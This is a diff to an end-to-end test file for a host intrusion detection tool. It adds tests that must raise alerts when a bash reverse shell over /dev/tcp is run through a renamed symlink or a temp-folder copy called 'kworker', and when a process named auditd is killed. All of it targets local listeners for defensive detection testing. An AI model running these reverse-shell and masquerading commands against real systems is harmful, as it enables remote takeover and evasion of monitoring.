@@ -2,7 +2,9 @@
  * Detection end to end, as root with the real driver: `hades start` runs the server (with the
  * default rule pack) and a local agent; attacks done for real on this host each produce their
  * alert through `hades alerts list --json`:
- * - a reverse shell to a local listener (bash with /dev/tcp);
+ * - a reverse shell to a local listener (bash with /dev/tcp), also by bash linked under another
+ *   name and by a copy of bash in a temporary folder;
+ * - a program named auditd killed with SIGKILL;
  * - curl piped to sh from a local HTTP server;
  * - a file dropped in /tmp and executed;
  * - a cron persistence write (/etc/cron.d);
@@ -15,7 +17,7 @@
  */
 import assert from 'node:assert/strict';
 import { execFile, spawn, spawnSync } from 'node:child_process';
-import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { createServer as createHttpServer } from 'node:http';
 import { createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -161,6 +163,59 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
       for (const socket of sockets) socket.destroy();
       await new Promise((resolve) => listener.close(resolve));
     }
+  });
+
+  /** Runs `launch` (a shell command given the port) against a listener that tells the shell to exit. */
+  const withShellListener = async (launch: (port: number) => string) => {
+    const sockets = new Set<Socket>();
+    const listener = createTcpServer((socket) => {
+      sockets.add(socket);
+      socket.on('error', () => undefined);
+      socket.end('exit\n');
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    const port = (listener.address() as AddressInfo).port;
+    try {
+      await run('/bin/bash', ['-c', launch(port)], { timeout: 10_000 }).catch(() => undefined);
+    } finally {
+      for (const socket of sockets) socket.destroy();
+      await new Promise((resolve) => listener.close(resolve));
+    }
+  };
+
+  it('bash linked under another name, reading a socket, raises the reverse shell alert', async () => {
+    const since = new Date().toISOString();
+    const link = path.join(mkdtempSync(path.join(dir, 'link-')), 'kworker');
+    symlinkSync('/bin/bash', link);
+    await withShellListener((port) => `${link} -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`);
+    // The shell itself (its comm kworker, its executable bash), not only its launcher's command line.
+    const alert = await waitForAlert('reverse_shell_socket_stdio for the linked bash', since, (a) => a.rule.id === 'reverse_shell_socket_stdio' && mentions(a, link));
+    assert.equal(alert.rule.severity, 'critical');
+  });
+
+  it('bash copied to a temporary folder under another name, reading a socket, raises an alert', async () => {
+    const since = new Date().toISOString();
+    const copy = path.join(mkdtempSync(path.join(dir, 'copy-')), 'kworker');
+    copyFileSync('/bin/bash', copy);
+    chmodSync(copy, 0o755);
+    await withShellListener((port) => `${copy} -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`);
+    const alert = await waitForAlert('socket_stdio_program_from_writable_folder for the copy', since, (a) => a.rule.id === 'socket_stdio_program_from_writable_folder' && mentions(a, copy));
+    assert.equal(alert.rule.severity, 'high');
+  });
+
+  it('a process named auditd killed by SIGKILL raises an alert', async () => {
+    const since = new Date().toISOString();
+    // A program called auditd (a copy of sleep): the exit event carries its comm and exit code.
+    const auditd = path.join(mkdtempSync(path.join(dir, 'auditd-')), 'auditd');
+    copyFileSync('/bin/sleep', auditd);
+    chmodSync(auditd, 0o755);
+    const daemon = spawn(auditd, ['60'], { stdio: 'ignore' });
+    const gone = new Promise((resolve) => daemon.on('close', resolve));
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    daemon.kill('SIGKILL');
+    await gone;
+    const alert = await waitForAlert('security_daemon_killed for the killed auditd', since, (a) => a.rule.id === 'security_daemon_killed' && mentions(a, auditd));
+    assert.equal(alert.rule.severity, 'high');
   });
 
   it('curl piped to sh from a local HTTP server raises an alert', async () => {
